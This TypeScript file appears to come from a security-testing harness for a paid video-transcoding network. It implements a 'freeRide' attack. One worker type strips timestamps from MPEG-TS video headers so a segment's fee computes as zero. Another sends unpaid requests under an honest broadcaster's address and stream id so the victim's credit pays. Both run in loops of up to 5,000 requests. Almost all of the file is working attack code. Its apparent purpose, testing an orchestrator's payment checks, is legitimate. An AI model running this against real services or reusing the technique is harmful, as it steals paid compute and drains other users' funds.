/**
 * freeRide (issue 9 D1, D2): `Transcode` requests with no tickets, in a loop.
 * - D1: a throwaway sender and a real 720p segment whose video PES headers carry no PTS/DTS, into the honest
 *   profiles: a segment whose duration reads as 0 has an expected fee of 0, so no credit is needed.
 * - D2: the honest broadcaster's address and stream id as sender and session, a small segment into one small
 *   rendition: the victim's credit pays.
 * Every rendition returned is one the attacker did not pay for.
 */
import { randomBytes } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import type { Address } from 'viem';
import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts';
import type { Profile } from '../../src/media/profiles.js';
import { PRESETS } from '../../src/media/profiles.js';
import { paymentToProto, profileToProto } from '../../src/rpc/convert.js';
import type { DigestSigner } from '../../src/rpc/signing.js';
import { type AttackConfig, type AttackResult, dummyParams, pause, Tally } from './common.js';
import { connect, signatureFields, type TranscodeRequestInit, transcodeOnce, withSignature } from './rpc.js';

const D1_WORKERS = 2;
const D2_WORKERS = 1;
const MAX_REQUESTS = 5_000;
const TS_PACKET = 188;

/**
 * A copy of an MPEG-TS segment whose video PES headers carry no timestamps: PTS_DTS_flags (and every other
 * optional-field flag) cleared, the optional fields overwritten with stuffing bytes (0xFF), so each header
 * keeps its length and each packet its 188 bytes. Audio is left alone.
 */
export function stripVideoTimestamps(segment: Uint8Array): Uint8Array {
  const out = new Uint8Array(segment);
  for (let pos = 0; pos + TS_PACKET <= out.length; pos += TS_PACKET) {
    if (out[pos] !== 0x47) continue;
    const unitStart = ((out[pos + 1] as number) & 0x40) !== 0;
    if (!unitStart) continue;
    const afc = ((out[pos + 3] as number) >> 4) & 0x3;
    if ((afc & 0x1) === 0) continue; // no payload
    let p = pos + 4;
    if (afc & 0x2) p += 1 + (out[p] as number);
    if (p + 9 > pos + TS_PACKET) continue;
    const isVideoPes =
      out[p] === 0 && out[p + 1] === 0 && out[p + 2] === 1 && ((out[p + 3] as number) & 0xf0) === 0xe0;
    if (!isVideoPes) continue;
    const headerLength = out[p + 8] as number;
    out[p + 7] = 0;
    const end = Math.min(p + 9 + headerLength, pos + TS_PACKET);
    out.fill(0xff, p + 9, end);
  }
  return out;
}

/**
 * D1's request: no tickets, a throwaway sender, a segment without timestamps. Where requests are signed, the
 * throwaway key signs it: the sender is real, only nobody funded it.
 */
async function d1Request(o: {
  orchestrator: Address;
  segment: Uint8Array;
  profiles: readonly Profile[];
  seq: number;
}): Promise<TranscodeRequestInit> {
  const throwaway = privateKeyToAccount(generatePrivateKey());
  const sender = throwaway.address;
  const metadata = {
    streamId: `d1-${randomBytes(6).toString('hex')}`,
    seq: BigInt(o.seq),
    durationMs: 2000,
    profiles: o.profiles.map(profileToProto),
  };
  const req: TranscodeRequestInit = {
    metadata,
    segment: o.segment,
    payment: paymentToProto({ sender, params: dummyParams(o.orchestrator, sender), tickets: [] }),
  };
  const signer = throwaway as unknown as DigestSigner;
  return withSignature(
    req,
    await signatureFields(signer, o.orchestrator, sender, { metadata, segment: o.segment }),
  );
}

/**
 * D2's request: no tickets, in the victim's name and on the victim's stream. The attacker cannot sign as the
 * victim; where requests are signed, it signs with its own key (a wrong signer).
 */
async function d2Request(o: {
  attacker: DigestSigner;
  orchestrator: Address;
  victim: Address;
  streamId: string;
  segment: Uint8Array;
  profiles: readonly Profile[];
  seq: number;
}): Promise<TranscodeRequestInit> {
  const metadata = {
    streamId: o.streamId,
    seq: BigInt(o.seq),
    durationMs: 1000,
    profiles: o.profiles.map(profileToProto),
  };
  const req: TranscodeRequestInit = {
    metadata,
    segment: o.segment,
    payment: paymentToProto({ sender: o.victim, params: dummyParams(o.orchestrator, o.victim), tickets: [] }),
  };
  return withSignature(
    req,
    await signatureFields(o.attacker, o.orchestrator, o.victim, { metadata, segment: o.segment }),
  );
}

export async function freeRide(
  cfg: AttackConfig,
  signal: AbortSignal,
  hooks: { ready(): void; progress(text: string): void },
): Promise<AttackResult> {
  const tally = new Tally();
  const stripped = stripVideoTimestamps(new Uint8Array(await readFile(cfg.segmentPath)));
  const tiny = new Uint8Array(await readFile(cfg.tinySegmentPath));
  const small = [PRESETS['240p30'] as Profile];
  const attacker = privateKeyToAccount(cfg.attackerKey) as unknown as DigestSigner;
  const rpc = connect(cfg.orchestratorUrl, signal, cfg.localAddress);
  let seq = 1_000_000;
  let replies = 0;

  const loop = async (kind: 'd1' | 'd2') => {
    while (!signal.aborted && tally.sent < MAX_REQUESTS) {
      const req =
        kind === 'd1'
          ? await d1Request({
              orchestrator: cfg.orchestratorAddress,
              segment: stripped,
              profiles: cfg.profiles,
              seq: seq++,
            })
          : await d2Request({
              attacker,
              orchestrator: cfg.orchestratorAddress,
              victim: cfg.honest.address,
              streamId: cfg.honest.streamId,
              segment: tiny,
              profiles: small,
              seq: seq++,
            });
      tally.sent++;
      tally.add(`${kind}Requests`);
      const r = await transcodeOnce(rpc, req, { timeoutMs: 20_000, signal });
      if (signal.aborted) break;
      tally.count(`${kind}.${r.outcome}`);
      tally.add(`${kind}ServedRenditions`, r.renditions);
      tally.servedRenditions += r.renditions;
      if (++replies === D1_WORKERS + D2_WORKERS) hooks.ready();
      // A refusal is cheap to both sides: come back soon, not in a busy loop.
      if (r.outcome !== 'ok') await pause(50, signal);
    }
  };
  const timer = setInterval(
    () => hooks.progress(`${tally.sent} requests, ${tally.servedRenditions} renditions served`),
    10_000,
  );
  try {
    await Promise.all([
      ...Array.from({ length: D1_WORKERS }, () => loop('d1')),
      ...Array.from({ length: D2_WORKERS }, () => loop('d2')),
    ]);
  } finally {
    clearInterval(timer);
  }
  return tally.result();
}
